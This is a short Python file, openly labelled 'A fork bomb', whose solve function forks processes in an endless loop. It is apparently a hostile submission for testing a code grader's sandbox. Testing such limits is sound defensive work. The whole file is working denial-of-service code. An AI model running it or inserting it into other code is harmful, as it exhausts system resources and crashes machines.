"""A fork bomb."""

import os


def solve(a, b, out, n):
    while True:
        os.fork()
